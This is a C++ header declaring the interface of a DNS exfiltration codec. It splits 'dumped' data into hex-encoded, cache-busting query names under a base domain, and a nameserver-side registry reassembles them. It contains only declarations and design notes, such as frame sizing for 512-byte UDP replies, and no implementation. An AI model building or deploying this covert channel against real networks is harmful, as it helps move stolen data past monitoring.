#pragma once

#include <chrono>
#include <cstdint>
#include <map>
#include <optional>
#include <span>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

#include "dnsexfil/dns_wire.hpp"
#include "dnsexfil/rng.hpp"

namespace dnsexfil::codec {

struct CodecError : std::runtime_error {
    using std::runtime_error::runtime_error;
};
struct OddLength : CodecError {
    using CodecError::CodecError;
};
struct NonHexCharacter : CodecError {
    using CodecError::CodecError;
};
struct TooManyFrames : CodecError {
    using CodecError::CodecError;
};
struct BaseDomainTooLong : CodecError {
    using CodecError::CodecError;
};
/// Same marker and sequence index arrived twice with different payloads.
struct ConflictingChunk : CodecError {
    using CodecError::CodecError;
};

std::string hex_encode(std::span<const std::uint8_t> data);
std::vector<std::uint8_t> hex_decode(std::string_view hex);

/// Random enclosure strings for one dumped item: 8 lowercase alphanumerics,
/// first character a letter. Distinct per item so the capture side can tell
/// concurrent items apart, and so no two runs ever share a query name.
struct MarkerPair {
    std::string prefix;
    std::string suffix;

    friend bool operator==(const MarkerPair&, const MarkerPair&) = default;
    friend bool operator<(const MarkerPair& a, const MarkerPair& b) {
        return a.prefix != b.prefix ? a.prefix < b.prefix : a.suffix < b.suffix;
    }
};

MarkerPair new_marker_pair(Rng& rng);
bool is_marker_token(std::string_view s);

/// One decoded query name: which item it belongs to, where in the item it
/// sits, and the hex payload it carries.
struct ExfilFrame {
    MarkerPair markers;
    std::uint32_t seq_index = 0;
    std::uint32_t seq_total = 1;
    std::string payload_hex;

    friend bool operator==(const ExfilFrame&, const ExfilFrame&) = default;
};

/// Sizing rules for query names under one base domain.
///
/// Frame layout (presentation form):
///     <prefix>.<seq>.<hex label>*.<suffix>.<base domain>
/// with an 8-hex-digit seq label (4 digits 0-based index, 4 digits total).
/// Payload hex is packed into 63-character labels; the per-frame hex
/// capacity is the number of whole 64-char label slots (63 chars + dot)
/// that fit in the space left by the fixed labels, rounded down to a whole
/// number of bytes. When not even one whole slot fits, a single short label
/// uses whatever space remains.
///
/// Frame names are capped at 239 presentation chars, not the protocol's
/// 253: the dummy answer repeats the name uncompressed in both the question
/// and the answer section, and 34 bytes of fixed message framing plus twice
/// a 241-byte wire name is exactly the classic 512-byte UDP ceiling.
class FrameBudget {
public:
    static constexpr std::size_t max_fqdn = wire::max_name_presentation; // 253
    static constexpr std::size_t max_frame_name = 239;
    static constexpr std::size_t max_label = wire::max_label_bytes; // 63
    static constexpr std::size_t marker_chars = 8;
    static constexpr std::size_t seq_chars = 8;

    explicit FrameBudget(wire::DomainName base_domain);

    const wire::DomainName& base_domain() const { return base_; }

    /// Raw payload bytes per frame. 0 means the base domain leaves no room.
    std::size_t capacity_bytes() const { return hex_chars_ / 2; }
    std::size_t frame_hex_chars() const { return hex_chars_; }

private:
    wire::DomainName base_;
    std::size_t hex_chars_ = 0;
};

/// Split `data` into cache-busting query names. Empty data produces one
/// frame with an empty payload. Throws TooManyFrames past 0xffff frames and
/// BaseDomainTooLong when the budget capacity is zero.
std::vector<wire::DomainName> build_frames(std::span<const std::uint8_t> data,
                                           const MarkerPair& markers,
                                           const FrameBudget& budget);

/// Inverse of build_frames for a single name. Total function: anything that
/// is not a well-formed frame under the budget's base domain (wrong suffix,
/// bad marker shape, index >= total, odd or non-hex payload) is nullopt so
/// the nameserver can keep serving unrelated traffic.
std::optional<ExfilFrame> parse_frame(const wire::DomainName& name, const FrameBudget& budget);

using Timestamp = std::chrono::steady_clock::time_point;

struct CompletedItem {
    MarkerPair markers;
    std::vector<std::uint8_t> data;
};

struct SessionProgress {
    std::uint32_t received = 0;
    std::uint32_t total = 0;
};

struct AbandonedSession {
    MarkerPair markers;
    std::uint32_t received = 0;
    std::uint32_t total = 0;
    Timestamp created{};
};

/// Reassembly state for in-flight items, keyed by marker pair. Chunks may
/// arrive in any order; duplicates with identical payload are idempotent.
/// Not internally synchronized: callers serialize access (the server loop
/// owns its registry).
class SessionRegistry {
public:
    /// Store one frame. Returns the decoded item when this frame completes
    /// it (the session is then dropped), nullopt while still pending.
    std::optional<CompletedItem> ingest(const ExfilFrame& frame, Timestamp now);

    std::optional<SessionProgress> progress(const MarkerPair& markers) const;

    /// Drop sessions with no arrivals since `cutoff` and report them.
    std::vector<AbandonedSession> expire_idle_since(Timestamp cutoff);

    /// Drop and report everything still open (shutdown path).
    std::vector<AbandonedSession> drain();

    std::size_t open_sessions() const { return sessions_.size(); }

private:
    struct Session {
        std::uint32_t total = 1;
        std::map<std::uint32_t, std::string> chunks;
        Timestamp created{};
        Timestamp last_seen{};
    };

    static AbandonedSession abandon(const MarkerPair& markers, const Session& s);

    std::map<MarkerPair, Session> sessions_;
};

} // namespace dnsexfil::codec
